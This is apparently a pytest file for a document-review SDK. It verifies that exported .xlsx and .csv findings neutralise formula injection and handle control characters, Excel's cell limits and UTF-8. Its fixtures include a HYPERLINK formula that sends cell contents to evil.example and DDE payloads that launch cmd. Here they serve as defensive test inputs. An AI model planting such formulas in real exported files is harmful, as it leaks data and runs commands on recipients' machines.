"""Findings exported to .xlsx and .csv: document text that looks like a formula stays text, and characters
an .xlsx cannot hold are dropped instead of failing the export."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook
from quire_sdk.export import COLUMNS, export_result, guarded
from quire_sdk.types import JobResult

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
QUOTES = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-cmd",
    "-12.5",
    "Section 4\x0b governed by\x00 Delaware law",
    "The term is two years.",
]


def _result(quotes: list[str], label: str = "Governing Law") -> JobResult:
    clauses = [
        {
            "category": label,
            "confidence": 0.9,
            "span": {"document_id": "doc_1", "start": 10 * i, "end": 10 * i + len(q), "quote": q},
        }
        for i, q in enumerate(quotes)
    ]
    return JobResult.from_dict({"job_id": "job_1", "object": "job_result", "output": {"clauses": clauses}})


def test_guarded_follows_the_servers_rule():
    from quire.jobs.review import guarded as servers

    for value in ("=1+1", "+1 555 0100", "@A1", "-cmd", "-", "-2+3+cmd|' /C calc'!A0", "\t=1", "\r=1"):
        assert guarded(value) == servers(value) == f"'{value}", value
    for value in ("-12.5", "+3%", "1,200", "", "Term", "12 months"):
        assert guarded(value) == servers(value) == value, value


def test_xlsx_cells_are_text_never_formulas(tmp_path):
    path = tmp_path / "findings.xlsx"
    assert export_result(_result(QUOTES, label="=cmd|' /C calc'!A0"), path) == len(QUOTES)
    sheet = load_workbook(path).active
    rows = list(sheet.iter_rows(min_row=2))
    assert {cell.data_type for row in rows for cell in row} <= {"s", "n"}
    quote = COLUMNS.index("quote")
    assert [row[quote].value for row in rows] == [
        "'" + HYPERLINK,
        "'+1+cmd|' /C calc'!A0",
        "'@SUM(A1:A9)",
        "'-cmd",
        "-12.5",
        "Section 4 governed by Delaware law",
        "The term is two years.",
    ]
    assert {row[COLUMNS.index("label")].value for row in rows} == {"'=cmd|' /C calc'!A0"}
    assert [row[COLUMNS.index("start")].value for row in rows] == [10 * i for i in range(len(QUOTES))]
    assert rows[0][COLUMNS.index("confidence")].value == 0.9


def test_csv_cells_are_guarded_the_same_way(tmp_path):
    path = tmp_path / "findings.csv"
    export_result(_result(QUOTES, label="@label"), path)
    with path.open(newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["quote"] for row in rows] == [
        "'" + HYPERLINK,
        "'+1+cmd|' /C calc'!A0",
        "'@SUM(A1:A9)",
        "'-cmd",
        "-12.5",
        "Section 4\x0b governed by\x00 Delaware law",
        "The term is two years.",
    ]
    assert {row["label"] for row in rows} == {"'@label"}
    assert rows[1]["start"] == "10" and rows[0]["confidence"] == "0.9"


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_cli_exports_a_result_with_control_characters(mock_cli, tmp_path, suffix):
    result = _result(QUOTES).raw

    def answer(request: httpx.Request) -> httpx.Response:
        if request.url.path.endswith("/result"):
            return httpx.Response(200, json=result)
        return httpx.Response(200, json={"id": "job_1", "connector": "legal", "status": "succeeded"})

    out = tmp_path / f"findings{suffix}"
    shown = mock_cli(answer, "jobs", "result", "job_1", "--export", str(out))
    assert shown.exit_code == 0, shown.output
    assert f"{len(QUOTES)} findings written" in shown.stdout and out.exists()


def test_xlsx_cuts_a_quote_past_excels_cell_limit(tmp_path):
    from quire_sdk.export import XLSX_CELL_CHARS, XLSX_CUT

    long_quote = "word " * 8000
    path = tmp_path / "findings.xlsx"
    export_result(_result([long_quote, "short"]), path)
    rows = list(load_workbook(path).active.iter_rows(min_row=2, values_only=True))
    quote = COLUMNS.index("quote")
    assert len(rows[0][quote]) == XLSX_CELL_CHARS and rows[0][quote].endswith(XLSX_CUT)
    assert rows[0][quote].startswith(long_quote[:1000]) and rows[1][quote] == "short"


def test_xlsx_counts_excels_cell_limit_in_utf16_units(tmp_path):
    from quire_sdk.export import XLSX_CELL_CHARS, XLSX_CUT

    wide = "\U0001f600" * 20_000
    path = tmp_path / "findings.xlsx"
    export_result(_result([wide, "short"]), path)
    rows = list(load_workbook(path).active.iter_rows(min_row=2, values_only=True))
    cell = rows[0][COLUMNS.index("quote")]
    assert len(cell.encode("utf-16-le")) // 2 <= XLSX_CELL_CHARS and cell.endswith(XLSX_CUT)
    assert cell.startswith("\U0001f600" * 100)


def test_error_code_text_stays_a_string_in_the_servers_and_the_sdks_xlsx(tmp_path):
    from openpyxl.cell.cell import ERROR_CODES

    from quire.jobs.review import xlsx_file

    codes = sorted(ERROR_CODES)
    path = tmp_path / "findings.xlsx"
    export_result(_result(codes, label="#N/A"), path)
    sdk_rows = list(load_workbook(path).active.iter_rows(min_row=2))
    sdk_cells = [
        (row[COLUMNS.index("quote")].value, row[COLUMNS.index("quote")].data_type) for row in sdk_rows
    ]
    assert {
        (row[COLUMNS.index("label")].value, row[COLUMNS.index("label")].data_type) for row in sdk_rows
    } == {("#N/A", "s")}
    server = load_workbook(xlsx_file(iter([["value", "#N/A"], *([code] for code in codes)]))).active
    server_cells = [(row[0].value, row[0].data_type) for row in server.iter_rows(min_row=2)]
    assert sdk_cells == server_cells == [(code, "s") for code in codes]
    assert (server["B1"].value, server["B1"].data_type) == ("#N/A", "s")


def test_the_servers_and_the_sdks_xlsx_cut_a_long_cell_at_the_same_place(tmp_path):
    from quire_sdk.export import XLSX_CELL_CHARS

    from quire.jobs.review import XLSX_CELL_CHARS as SERVER_CELL_CHARS
    from quire.jobs.review import xlsx_file

    assert SERVER_CELL_CHARS == XLSX_CELL_CHARS
    values = ["=" + "x" * 40_000, "a\x00b" * 12_000, "y" * XLSX_CELL_CHARS, "z" * (XLSX_CELL_CHARS + 1)]
    path = tmp_path / "findings.xlsx"
    export_result(_result(values), path)
    sdk = [
        row[COLUMNS.index("quote")]
        for row in load_workbook(path).active.iter_rows(min_row=2, values_only=True)
    ]
    server = [
        row[0]
        for row in load_workbook(xlsx_file(iter([["quote"], *([v] for v in values)]))).active.iter_rows(
            min_row=2, values_only=True
        )
    ]
    assert [len(value) for value in sdk] == [len(value) for value in server]
    assert all(len(value) <= XLSX_CELL_CHARS for value in sdk)
    assert [value[:100] for value in sdk] == [value[:100] for value in server]
    assert sdk[2] == server[2] == values[2]


def test_json_and_csv_are_utf8_whatever_the_locale(tmp_path):
    import quire_sdk

    script = (
        "import sys; from quire_sdk.export import export_result; from quire_sdk.types import JobResult;"
        "result = JobResult.from_dict({'job_id': 'job_1', 'output': {'clauses': [{'category': 'Governing Law',"
        " 'span': {'document_id': 'doc_1', 'start': 0, 'end': 12, 'quote': '\\u672c\\u5951\\u7d04'}}]}});"
        "[export_result(result, sys.argv[1] + suffix) for suffix in ('.json', '.csv')]"
    )
    env = {
        **os.environ,
        "LC_ALL": "C",
        "PYTHONUTF8": "0",
        "PYTHONPATH": str(Path(quire_sdk.__file__).parents[1]),
    }
    ran = subprocess.run(
        [sys.executable, "-c", script, str(tmp_path / "out")], env=env, capture_output=True, text=True
    )
    assert ran.returncode == 0, ran.stderr
    written = json.loads((tmp_path / "out.json").read_bytes().decode("utf-8"))
    assert written["findings"][0]["quote"] == "本契約"
    raw = (tmp_path / "out.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "a BOM, as the server's review CSV, so that Excel reads UTF-8"
    assert "本契約" in raw.decode("utf-8-sig")
